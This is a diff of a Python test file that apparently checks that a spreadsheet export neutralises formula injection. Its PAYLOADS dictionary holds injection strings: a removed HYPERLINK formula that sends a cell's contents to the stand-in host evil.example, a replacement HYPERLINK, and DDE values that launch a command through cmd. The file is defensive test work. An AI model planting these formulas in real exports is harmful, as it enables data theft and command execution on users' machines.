@@ -75,7 +75,7 @@ def test_export_all_digit_id_number_is_not_rounded(
 
 
 PAYLOADS = {
-    "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "name": '=HYPERLINK("http://e.cn","点")',
     "work_unit": "+cmd|' /C calc'!A0",
     "review_reason": "-2+3+cmd|' /C calc'!A0",
     "counselor_note": "@SUM(1+1)*cmd|' /C calc'!A0",
